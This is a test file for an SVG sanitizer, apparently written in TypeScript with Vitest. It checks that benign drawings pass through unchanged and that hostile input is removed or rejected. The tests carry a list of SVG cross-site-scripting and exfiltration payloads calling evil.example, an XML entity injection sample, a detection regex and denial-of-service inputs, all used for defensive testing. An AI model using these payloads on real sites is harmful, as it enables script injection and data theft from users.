import { describe, expect, test } from "vitest"
import { safeSvg } from "./safe-svg.ts"

const svg = (inner: string, attributes = "") => `<svg xmlns="http://www.w3.org/2000/svg"${attributes}>${inner}</svg>`

test("a plain drawing stays what it is", () => {
  const drawing = svg(
    '<defs><linearGradient id="g"><stop offset="0" stop-color="#123456"/></linearGradient></defs><style>.a{fill:url(#g)}</style><path class="a" d="M0 0h10v10z"/><text x="1" y="2">R&amp;D &lt;1&gt;</text>',
    ' viewBox="0 0 10 10"',
  )
  expect(safeSvg(drawing)).toBe(drawing)
})

test("what drawing programs write around it is left out", () => {
  const source = `\uFEFF<?xml version="1.0" encoding="UTF-8"?>\n<!-- Generator -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg:svg xmlns:svg="http://www.w3.org/2000/svg" xmlns:inkscape="x" width='8'><metadata><rdf:RDF xmlns:rdf="y">words</rdf:RDF></metadata><svg:g inkscape:label="Layer"><rect width="3"/></svg:g></svg:svg>\n`
  expect(safeSvg(source)).toBe(svg('<g><rect width="3"/></g>', ' width="8"'))
})

describe("what acts or reaches out is gone", () => {
  const attacks = [
    "<script>alert(1)</script>",
    "<script><![CDATA[alert(1)]]></script>",
    '<script href="https://evil.example/x.js"/>',
    "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><iframe src='https://evil.example'></iframe></body></foreignObject>",
    '<image href="https://evil.example/pixel.png" width="1"/>',
    '<a href="javascript:alert(1)"><rect width="1"/></a>',
    '<use href="https://evil.example/x.svg#a"/>',
    '<use xlink:href="data:image/svg+xml;base64,AAAA#a"/>',
    '<rect onload="alert(1)" ONCLICK="alert(1)" width="1"/>',
    '<animate attributeName="href" values="javascript:alert(1)"/>',
    '<set attributeName="onmouseover" to="alert(1)"/>',
    '<rect style="fill:url(https://evil.example/x)"/>',
    '<rect fill="url(&#104;ttps://evil.example/x)"/>',
    '<rect style="fill:u\\72l(https://evil.example/x)"/>',
    '<style>@import "https://evil.example/x.css";</style>',
    "<style>rect{background:url(//evil.example/x)}</style>",
    "<style>rect{fill:red}</style><style><![CDATA[@import url(https://evil.example/x)]]></style>",
    "<style>rect{fill:u<![CDATA[rl(https://evil.example/x)]]>}</style>",
    "<style>rect{fill:u<!-- -->rl(https://evil.example/x)}</style>",
    '<title>&lt;script&gt;alert(1)&lt;/script&gt;</title><handler type="application/ecmascript">alert(1)</handler>',
    '<filter id="f"><feImage href="https://evil.example/x"/></filter>',
    '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
  ]
  test.each(attacks)("%s", (attack) => {
    const safe = safeSvg(svg(`${attack}<circle r="1"/>`)) ?? ""
    expect(safe).toContain('<circle r="1"/>')
    expect(safe.replace('xmlns="http://www.w3.org/2000/svg"', "")).not.toMatch(
      /<script|<h:|javascript:|evil|data:|on\w+\s*=|<image|foreignobject|<a[\s>]|@import|<animate|<set|<handler/i,
    )
  })
})

test.each([
  [
    "an entity of its own",
    '<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
  ],
  ["a tag that does not close", svg("<g><rect/>")],
  ["tags that cross", svg("<g><defs></g></defs>")],
  ["a broken attribute", svg('<rect width="1/>')],
  ["two drawings", svg("") + svg("")],
  ["a page", "<html><body><svg></svg></body></html>"],
  ["words before it", `words ${svg("")}`],
  ["nothing", ""],
  ["another instruction", `<?php echo 1 ?>${svg("")}`],
  ["a very deep one", svg("<g>".repeat(200) + "</g>".repeat(200))],
])("%s is no drawing", (_, source) => expect(safeSvg(source)).toBeNull())

test("reading is quick whatever it is given", () => {
  const began = performance.now()
  for (const source of [
    "<".repeat(2e5),
    `<a ${'b="c" '.repeat(5e4)}`,
    "<!--".repeat(1e5),
    svg("&".repeat(3e5)),
    `<a${" ".repeat(2e5)}`,
  ])
    safeSvg(source)
  expect(performance.now() - began).toBeLessThan(3000)
})
